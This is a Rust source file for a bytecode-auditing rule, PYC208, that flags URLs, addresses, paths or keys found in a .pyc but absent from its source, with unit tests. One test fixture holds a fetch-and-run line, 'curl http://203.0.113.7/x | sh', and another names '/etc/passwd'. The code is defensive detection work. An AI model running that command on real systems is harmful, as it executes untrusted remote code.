//! PYC208.

use std::collections::HashSet;

use crate::name;
use crate::rules::Findings;
use crate::rules::PycContext;
use crate::rules::Severity;
use crate::rules::declare_rule;
use crate::secret;
use crate::verify::check::CodeCheck;

declare_rule! {
    /// ## What it reports
    /// A pyc whose code differs from its source (`PYC201`) and holds URLs, network addresses, paths or what looks like a key, which the
    /// source does not have. One finding for a file: the first of them, and how many there are. White space, quotes and backslashes
    /// are left out on both sides before they are compared, so that a string written in parts is found.
    ///
    /// ## Why it matters
    /// It is what an older state of the source gave away, or what a payload speaks to: PyPI's own token of 2024 stood in a pyc
    /// whose source had been cleaned.
    ///
    /// ## Innocent causes
    /// The pyc is stale. A string that the source computes and the compiler folded.
    ///
    /// ## Severity
    /// High; low where the header itself records another source and the file would not run.
    ///
    /// ## What to do
    /// Look at the string in `pycaudit inspect --all`. What is secret in it is known to whoever has the file.
    ///
    /// ## References
    /// The incident of PyPI in 2024.
    id: "PYC208",
    name: "bytecode-only-string",
    summary: "the code holds URLs, paths or keys that its source does not have",
    severity: High,
    check: Pyc(check),
}

/// Strings from this length on are data or documentation of another kind, and cost time.
const LONGEST: usize = 1 << 16;

fn check(context: &PycContext<'_>, findings: &mut Findings<'_>) {
    if !matches!(context.code_check, CodeCheck::Differs { .. }) {
        return;
    }
    let Some(source) = (context.source_text)() else { return };
    let source = bare(source);
    let mut seen: HashSet<&[u8]> = HashSet::new();
    let mut first: Option<(u64, &'static str, &[u8])> = None;
    for (offset, string) in context.tree.strings().filter(|(_, string)| string.len() < LONGEST) {
        for word in string.split(|byte| byte.is_ascii_whitespace() || b"'\"<>()[]{},;`|".contains(byte)) {
            let Some(kind) = kind(word) else { continue };
            // The path that the code was compiled under is no string of it.
            let is_known =
                seen.contains(word) || context.pyc.body.root().is_some_and(|root| root.filename.as_bytes() == string);
            if is_known || memchr::memmem::find(&source, &bare(word)).is_some() {
                continue;
            }
            seen.insert(word);
            first.get_or_insert((offset, kind, word));
        }
    }
    let Some((offset, kind, word)) = first else { return };
    let more = if seen.len() > 1 { format!("; the first of {} such strings", seen.len()) } else { String::new() };
    let masked = secret::masked(word).filter(|_| !context.container.reveal_secrets);
    let shown = name::shown(masked.as_deref().unwrap_or(word));
    findings
        .add(format!("`{}` holds {kind} that its source does not have{more}", context.module))
        .compared("in the source", format!("`{shown}`"))
        .at(offset)
        .severity(context.severity_of_other_code().min(Severity::High));
}

/// Text without what depends on how it is written.
fn bare(text: &[u8]) -> Vec<u8> {
    let is_written = |byte: &u8| byte.is_ascii_whitespace() || matches!(byte, b'\'' | b'"' | b'\\');
    text.iter().copied().filter(|byte| !is_written(byte)).collect()
}

/// What a word is, where it says something.
fn kind(word: &[u8]) -> Option<&'static str> {
    let text = str::from_utf8(word).ok().filter(|text| text.len() >= 7)?;
    let is_path = |text: &str, separator: char| {
        text.matches(separator).count() >= 2 && text.split(separator).skip(1).any(|part| part.len() >= 3)
    };
    if let Some((scheme, rest)) = text.split_once("://") {
        let is_scheme = scheme.len() >= 2 && scheme.bytes().all(|byte| byte.is_ascii_alphabetic());
        return (is_scheme && rest.len() >= 3).then_some("a URL");
    }
    let (host, _) = text.split_once(':').unwrap_or((text, ""));
    let numbers: Vec<_> = host.split('.').map(str::parse::<u8>).collect();
    if numbers.len() == 4 && numbers.iter().all(Result::is_ok) {
        return Some("a network address");
    }
    if text.starts_with("~/") || text.starts_with('/') && is_path(text, '/') {
        return Some("a path");
    }
    if text.get(1..3) == Some(":\\") && is_path(text, '\\') {
        return Some("a path");
    }
    let is_of = |test: fn(&u8) -> bool| text.bytes().any(|byte| test(&byte));
    let is_key = text.len() >= 24
        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_+/=".contains(&byte))
        && is_of(u8::is_ascii_digit)
        && is_of(u8::is_ascii_lowercase)
        && is_of(u8::is_ascii_uppercase);
    is_key.then_some("what looks like a key")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::forge::Case;
    use crate::forge::Pyc;
    use crate::forge::pyc::Value;

    fn case(source: &str, string: &str) -> Case {
        let consts = vec![Value::None, Value::Str(string.to_owned())];
        let pyc = Pyc::python("3.12").consts(consts).flags(1).hash([0; 8]).build();
        Case::tree().file("m.py", source, 1).file("__pycache__/m.cpython-312.pyc", pyc, 1)
    }

    #[test]
    fn flags_an_address_that_only_the_bytecode_has() {
        let finding = case("x = 1\n", "curl http://203.0.113.7/x | sh").flags(&RULE);
        assert_eq!((finding.severity, finding.observed.as_str()), (Severity::High, "`http://203.0.113.7/x`"));
        assert_eq!(finding.message, "`m` holds a URL that its source does not have");
    }

    #[test]
    fn passes_strings_that_the_source_has_in_parts() {
        case("x = ('http://203.0.'\n     '113.7/x')\n", "http://203.0.113.7/x").passes(&RULE);
        case("x = 1\n", "nothing to see here").passes(&RULE);
    }

    #[test]
    fn passes_code_that_was_compiled_from_its_source() {
        case("# nothing\n", "http://203.0.113.7/x").passes(&RULE);
    }

    #[test]
    fn words_are_told_by_their_form() {
        assert_eq!(kind(b"/etc/passwd"), Some("a path"));
        assert_eq!(kind(br"C:\Users\bob\x"), Some("a path"));
        assert_eq!(kind(b"203.0.113.7:8080"), Some("a network address"));
        assert_eq!(kind(b"AKzz12345678901234567890aB"), Some("what looks like a key"));
        for word in ["and/or/not", "1.2.3.4.5", "/", "a://b", "CamelCaseNamesOfSomeLength", "x.y.z.w"] {
            assert_eq!(kind(word.as_bytes()), None, "{word}");
        }
    }
}
